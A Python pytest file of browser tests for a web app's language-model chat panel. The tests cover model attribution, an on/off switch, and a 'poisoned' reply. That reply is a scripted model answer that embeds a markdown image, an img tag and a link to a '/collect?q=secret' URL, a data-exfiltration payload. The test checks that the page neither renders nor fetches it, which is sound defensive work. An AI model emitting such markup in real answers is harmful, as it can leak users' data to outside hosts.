"""The page with a language model, in a real browser: the switch, the host, a poisoned reply."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from datetime import date
from typing import Any

import pytest

from app.programs import CHROMIUM
from app.web.api import create_app
from app.wiring import Desk
from tests.hosted.endpoint import Asked, Endpoint, Play, Say
from tests.hosted.test_plays import LIST, QUESTION, good
from tests.web.serving import serving as serving_page
from tests.web.visit import ARGUMENTS, Visit

pytestmark = pytest.mark.browser

SetPlay = Callable[[Play], Endpoint]


@pytest.fixture(scope="module")
def visit(hosted_desk: Desk) -> Iterator[Visit]:
    from playwright.sync_api import sync_playwright

    app = create_app(hosted_desk, today=lambda: date(2017, 9, 15))
    with serving_page(app) as address, sync_playwright() as playwright:
        browser: Any = playwright.chromium.launch(executable_path=CHROMIUM.find(), args=ARGUMENTS)
        opened = Visit(browser, address)
        yield opened
        assert opened.errors == []
        assert opened.outside == []
        browser.close()


def said(visit: Visit) -> str:
    return visit.texts("#pd-chat .bot.message")[-1]


def test_the_page_says_which_model_words_the_answers_and_where_it_is_asked(
    visit: Visit, endpoint: Endpoint, play: SetPlay
) -> None:
    host = endpoint.url.removeprefix("http://").removesuffix("/v1")
    assert f"scripted（{host}）" in visit.page.locator("#pd-as-of").inner_text()
    assert host in visit.page.locator("#pd-model").inner_text()
    play(good)
    visit.ask(QUESTION)
    assert "由六家单位负责" in said(visit)
    assert "文字由 scripted 组织" in visit.page.locator("#pd-side").inner_text()
    visit.shot("model-1-worded")


def test_the_switch_leaves_the_model_out_of_the_next_question(visit: Visit, play: SetPlay) -> None:
    endpoint = play(good)
    switch = visit.page.locator("#pd-model input[type=checkbox]")
    switch.uncheck()
    visit.ask(LIST)
    assert endpoint.asked == []
    switch.check()
    visit.ask(QUESTION)
    assert len(endpoint.asked) == 1


def test_a_poisoned_reply_shows_nothing_of_itself_and_fetches_nothing(
    visit: Visit, play: SetPlay
) -> None:
    def poisoned(asked: Asked) -> Say:
        url = "http://127.0.0.1:9/collect?q=secret"
        return Say(f'{asked.points}\n![x]({url}) <img src="{url}"> [看]({url})')

    play(poisoned)
    visit.ask(LIST)
    assert "没有通过核对" in said(visit)
    assert visit.page.locator("#pd-chat img[src*='127.0.0.1:9']").count() == 0
    assert visit.page.locator("#pd-chat a[href*='127.0.0.1:9']").count() == 0
